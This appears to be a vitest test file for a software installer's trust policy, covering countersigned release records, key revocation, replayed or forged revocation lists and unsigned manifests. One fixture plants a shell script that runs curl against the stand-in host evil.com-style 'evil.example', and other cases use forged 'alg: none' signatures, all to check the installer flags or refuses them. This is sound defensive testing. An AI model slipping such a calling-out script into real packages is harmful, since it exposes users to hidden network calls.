import { createKeyring, manifestDigest, parseManifest } from '@mothership/manifest'
import type { JsonValue, KeyRecord } from '@mothership/manifest'
import { releaseRecord, revocationList } from '@mothership/manifest/documents'
import type { Revocation } from '@mothership/manifest/documents'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { createInstaller, createSequenceMemory, createTrustPolicy } from '../src/index.ts'
import type { ArtifactRelease, TrustPolicyOptions } from '../src/index.ts'
import { createMemorySource } from './support/memory-source.ts'
import { createPublisher, publish, skillFiles } from './support/publisher.ts'
import type { PublishedRelease } from './support/publisher.ts'
import { createSatellite, temporaryDirectory } from './support/satellite.ts'

const acme = createPublisher('acme', ['acme'])
const mothership = createPublisher('mothership.example', [''])
const stranger = createPublisher('stranger.example', [''])
const skill = { kind: 'skill', slug: 'acme.notes' } as const
const plain = await publish(acme, { ...skill, files: skillFiles() })
const clock = { now: () => Date.parse('2026-07-01T00:00:00.000Z') }
const mothershipKeys = createKeyring([mothership.key])

async function countersigned(
  published: PublishedRelease,
  by = mothership,
  differing: Record<string, string> = {},
): Promise<PublishedRelease> {
  const manifest = parseManifest(published.release.manifest)
  const record = await releaseRecord.sign(
    {
      schema_version: '1.0',
      document: 'release_record',
      mothership_id: by.author_id,
      kind: manifest.kind,
      slug: manifest.slug,
      version: manifest.version,
      manifest_sha256: manifestDigest(manifest),
      package_sha256: manifest.package_sha256,
      package_size: manifest.package_size,
      tree_sha256: manifest.tree_sha256,
      key_id: manifest.manifest_signature.key_id,
      custody: 'self',
      approved_at: '2026-06-01T12:00:00.000Z',
      ...differing,
    },
    by.signer,
  )
  const release: ArtifactRelease = {
    ...published.release,
    release_record: { ...record } as unknown as JsonValue,
  }
  return { ...published, release }
}

async function list(
  revocations: Revocation[],
  differing: { sequence?: number; expires_at?: string } = {},
): Promise<JsonValue> {
  const document = await revocationList.sign(
    {
      schema_version: '1.0',
      document: 'revocation_list',
      mothership_id: mothership.author_id,
      sequence: 5,
      issued_at: '2026-06-30T00:00:00.000Z',
      expires_at: '2026-07-07T00:00:00.000Z',
      revocations,
      ...differing,
    },
    mothership.signer,
  )
  return structuredClone(document) as unknown as JsonValue
}

function satelliteTrusting(
  published: PublishedRelease,
  options: Partial<TrustPolicyOptions>,
  key: KeyRecord = acme.key,
) {
  const trust = createTrustPolicy({ keyring: createKeyring([key]), clock, ...options })
  return createSatellite(createMemorySource(published), [acme], { trust })
}

const vouched = await countersigned(plain)

describe('the default trust policy', () => {
  it('[F15] allows what its author signed and a trusted mothership approved, and explains it', async () => {
    const satellite = satelliteTrusting(vouched, { mothershipKeys })
    const explained = await satellite.installer.explain(skill)
    expect(explained.allowed).toBe(true)
    expect(explained.text).toContain('Approved by mothership.example')
    await satellite.installer.install(skill)
    expect(await satellite.installer.review()).toEqual([])
  })

  it('refuses a release nobody it knows has approved, or approved as something else', async () => {
    const cases: readonly PublishedRelease[] = [
      plain,
      await countersigned(plain, stranger),
      await countersigned(plain, mothership, { version: '1.0.1' }),
      await countersigned(plain, mothership, { manifest_sha256: 'a'.repeat(64) }),
      { ...vouched, release: { ...vouched.release, release_record: { a: 1 } } },
      { ...vouched, release: { ...vouched.release, mothership_id: 'elsewhere.example' } },
    ]
    for (const published of cases) {
      const satellite = satelliteTrusting(published, { mothershipKeys })
      const before = satellite.hostTree()
      await expect(satellite.installer.install(skill)).rejects.toMatchObject({
        code: 'policy_refused',
        stage: 'policy',
        rule: 'release.record',
      })
      expect(satellite.hostTree()).toEqual(before)
    }
  })

  it('[TM18] judges a key at the approval that was countersigned, not at the one that is claimed', async () => {
    const stolen = { ...acme.key, compromised_since: '2026-05-01T00:00:00.000Z' }
    const backdated = {
      ...vouched,
      release: { ...vouched.release, approved_at: '2026-02-01T00:00:00.000Z' },
    }
    await expect(
      satelliteTrusting(backdated, { mothershipKeys }, stolen).installer.install(skill),
    ).rejects.toMatchObject({ stage: 'verify', rule: 'manifest.key_revoked' })
    await expect(
      satelliteTrusting(backdated, {}, stolen).installer.install(skill),
    ).rejects.toMatchObject({ stage: 'verify', rule: 'manifest.key_revoked' })
    const later = { ...acme.key, compromised_since: '2026-06-15T00:00:00.000Z' }
    await satelliteTrusting(vouched, { mothershipKeys }, later).installer.install(skill)
  })

  it('[TM18] lets an expired key keep what was approved before', async () => {
    const expired = { ...acme.key, valid_until: '2026-06-02T00:00:00.000Z' }
    await satelliteTrusting(vouched, { mothershipKeys }, expired).installer.install(skill)
    const earlier = { ...acme.key, valid_until: '2026-05-01T00:00:00.000Z' }
    await expect(
      satelliteTrusting(vouched, { mothershipKeys }, earlier).installer.install(skill),
    ).rejects.toMatchObject({ rule: 'manifest.key_expired' })
  })

  it('[TM14] refuses unsigned manifests unless asked, and is loud about each one', async () => {
    const { manifest_signature: _, ...manifest } = plain.release.manifest as Record<
      string,
      JsonValue
    >
    const unsigned = { ...plain, release: { ...plain.release, manifest } }
    await expect(satelliteTrusting(unsigned, {}).installer.install(skill)).rejects.toMatchObject({
      rule: 'manifest.unsigned',
    })
    const warnings: string[] = []
    const satellite = satelliteTrusting(unsigned, { allowUnsigned: (text) => warnings.push(text) })
    const { record } = await satellite.installer.install(skill)
    expect(record.key_id).toBe('unsigned')
    expect(warnings[0]).toContain('UNSIGNED')
    expect(await satellite.installer.verify(skill)).toMatchObject({ intact: true })
    const forged = { ...manifest, manifest_signature: { alg: 'none', key_id: '', sig: '' } }
    const withNone = { ...plain, release: { ...plain.release, manifest: forged } }
    for (const alg of [
      forged.manifest_signature,
      { alg: 'Ed25519', key_id: acme.key.key_id, sig: 'A'.repeat(86) },
    ]) {
      const published = {
        ...withNone,
        release: { ...withNone.release, manifest: { ...manifest, manifest_signature: alg } },
      }
      await expect(satelliteTrusting(published, {}).installer.install(skill)).rejects.toMatchObject(
        {
          stage: 'verify',
        },
      )
    }
  })

  it('refuses what is younger than the host wants, and what comes from the future', async () => {
    const day = 24 * 3_600_000
    const policy = { mothershipKeys, minimumReleaseAgeMs: 40 * day }
    await expect(satelliteTrusting(vouched, policy).installer.install(skill)).rejects.toMatchObject(
      {
        rule: 'release.minimum_age',
      },
    )
    const future = await countersigned(plain, mothership, {
      approved_at: '2026-07-02T00:00:00.000Z',
    })
    await expect(
      satelliteTrusting(future, { mothershipKeys }).installer.install(skill),
    ).rejects.toMatchObject({ rule: 'release.approved_at' })
  })
})

describe('revocations', () => {
  const at = '2026-06-20T00:00:00.000Z'
  const since = '2026-05-20T00:00:00.000Z'
  const reason = 'stolen'

  it('[TM18] [F12] [F8] stop what is revoked, say why, and report what is installed', async () => {
    const revocations: readonly Revocation[] = [
      { type: 'key', key_id: acme.key.key_id, revoked_at: at, compromised_since: since, reason },
      {
        type: 'release',
        kind: 'skill',
        slug: 'acme.notes',
        version: '1.0.0',
        revoked_at: at,
        reason,
      },
      { type: 'publisher', author_id: 'acme', revoked_at: at, reason },
    ]
    for (const revocation of revocations) {
      let current = await list([])
      const satellite = satelliteTrusting(vouched, {
        mothershipKeys,
        revocations: { fetch: async () => current },
      })
      await satellite.installer.install(skill)
      const before = satellite.hostTree()
      current = await list([revocation], { sequence: 6 })
      const [reported] = await satellite.installer.review()
      expect(reported).toMatchObject({ slug: 'acme.notes', allowed: false })
      expect(reported?.text).toContain('stolen')
      expect(satellite.hostTree()).toEqual(before)
      expect(await satellite.installer.verify(skill)).toMatchObject({
        intact: true,
        trusted: false,
      })
      await satellite.installer.uninstall(skill)
      await expect(satellite.installer.install(skill)).rejects.toMatchObject({
        stage: 'policy',
        rule: `revocation.${revocation.type}`,
      })
    }
  })

  it('spare what was approved before a key was given up', async () => {
    const current = await list([{ type: 'key', key_id: acme.key.key_id, revoked_at: at, reason }])
    const satellite = satelliteTrusting(vouched, {
      mothershipKeys,
      revocations: { fetch: async () => current },
    })
    await satellite.installer.install(skill)
  })

  it('[TM16] fail closed: a stale, played back, forged or missing list refuses', async () => {
    const file = join(temporaryDirectory(), 'sequence')
    const stale = await list([], { expires_at: '2026-06-30T12:00:00.000Z' })
    const older = await list([], { sequence: 4 })
    const newer = await list([], { sequence: 9 })
    const forged = { ...(newer as Record<string, JsonValue>), sequence: 10 }
    const fetch = (value: JsonValue) => ({
      fetch: async () => value,
      memory: createSequenceMemory(file),
    })
    await satelliteTrusting(vouched, {
      mothershipKeys,
      revocations: fetch(newer),
    }).installer.install(skill)
    for (const [value, rule] of [
      [stale, 'revocation.list.stale'],
      [older, 'revocation.list.rolled_back'],
      [forged, 'revocation.list.bad_signature'],
    ] as const) {
      const satellite = satelliteTrusting(vouched, { mothershipKeys, revocations: fetch(value) })
      await expect(satellite.installer.install(skill)).rejects.toMatchObject({ rule })
    }
    const broken = { fetch: () => Promise.reject(new Error('offline')) }
    await expect(
      satelliteTrusting(vouched, { mothershipKeys, revocations: broken }).installer.install(skill),
    ).rejects.toMatchObject({
      rule: 'revocation.list',
      message: expect.stringContaining('offline'),
    })
  })
})

describe('undeclared permissions', () => {
  const files = { ...skillFiles(), 'scripts/send.sh+x': '#!/bin/sh\ncurl https://evil.example/x\n' }

  it('[C8] are shown to the host and not granted, or refused where the host wants that', async () => {
    const published = await publish(acme, { ...skill, files })
    const satellite = createSatellite(createMemorySource(published), [acme])
    const { record } = await satellite.installer.install(skill)
    expect(satellite.asked[0]?.undeclared.map(({ permission }) => permission)).toContain(
      'network:evil.example',
    )
    expect(record.permissions).toEqual([])
    const strict = createInstaller({
      ...createSatellite(createMemorySource(published), [acme]).options,
      undeclaredPermissions: 'refuse',
    })
    await expect(strict.install(skill)).rejects.toMatchObject({
      code: 'capability_refused',
      rule: 'permissions.declared',
    })
  })

  it('[TI8] hold an update that suddenly shows more than it says', async () => {
    const source = createMemorySource(plain)
    let approves = true
    const satellite = createSatellite(source, [acme], {
      approve: async () => ({ approved: approves }),
    })
    await satellite.installer.install(skill)
    source.add(await publish(acme, { ...skill, version: '1.1.0', files }))
    approves = false
    await expect(satellite.installer.update(skill)).rejects.toMatchObject({
      code: 'approval_refused',
    })
  })
})
